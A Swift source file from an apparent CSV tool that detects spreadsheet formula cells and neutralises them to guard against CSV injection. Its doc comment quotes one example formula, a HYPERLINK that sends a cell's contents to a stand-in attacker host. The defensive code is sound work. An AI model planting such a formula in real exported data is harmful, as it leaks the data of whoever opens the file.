/// CSV cells a spreadsheet would run as formulas: a cell that begins with
/// `=`, `+`, `-` or `@` (or a tab or CR, which some spreadsheets skip before
/// one) is a formula to Excel, LibreOffice and Google Sheets, so a record
/// such as `=HYPERLINK("http://evil.example/?x="&A1,"Click")` becomes a live
/// link, or worse, when the output is opened (OWASP's "CSV injection").
///
/// `--spreadsheet-safe` writes such cells with a leading `'`, which the
/// spreadsheet shows as text and does not display; without it they are
/// written as read (the output is data for any CSV reader first) and a
/// warning counts those that are not plain numbers (`-5`, `+49 30 1234`).
enum SpreadsheetFormulas {
    private static let triggers: [UInt8] = [UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"),
                                            ASCII.tab, ASCII.carriageReturn]

    /// Whether a cell (unquoted) begins as a formula does.
    static func isFormula(_ cell: UnsafeBufferPointer<UInt8>) -> Bool {
        cell.first.map(triggers.contains) ?? false
    }

    /// Whether a formula-like cell is only a number: digits, with signs,
    /// spaces, `.`, `,`, `/`, `(`, `)` (a negative amount, a phone number),
    /// or `;` (a card's phone numbers in one `--columns` cell).
    static func isNumber(_ cell: UnsafeBufferPointer<UInt8>) -> Bool {
        cell.contains { (UInt8(ascii: "0")...UInt8(ascii: "9")).contains($0) }
            && cell.allSatisfy { (UInt8(ascii: "0")...UInt8(ascii: "9")).contains($0) || Array(" +-.,/();".utf8).contains($0) }
    }

    /// Whether a row as read may hold a formula cell: a trigger at its
    /// start or after a delimiter (a quote between allowed). A quick test
    /// before the row is split; it may say yes for a delimiter in quotes.
    /// Complexity: O(n), no allocation.
    static func mayHoldFormula(_ row: UnsafeBufferPointer<UInt8>, delimiter: UInt8) -> Bool {
        var atFieldStart = true
        for byte in row {
            if atFieldStart, triggers.contains(byte) { return true }
            atFieldStart = byte == delimiter || (atFieldStart && byte == ASCII.quote)
        }
        return false
    }

    /// `cell` with the leading `'` that makes it text.
    static func neutralised(_ cell: UnsafeBufferPointer<UInt8>) -> [UInt8] {
        [UInt8(ascii: "'")] + Array(cell)
    }

    /// The warning for `count` formula cells written unchanged.
    static func warning(count: Int) -> String {
        "collate: warning: \(count) \(count == 1 ? "cell begins" : "cells begin") with =, +, -, @, a tab or a CR and \(count == 1 ? "is" : "are") "
            + "not a number: a spreadsheet runs such cells as formulas; --spreadsheet-safe writes them with a leading ' as text\n"
    }
}
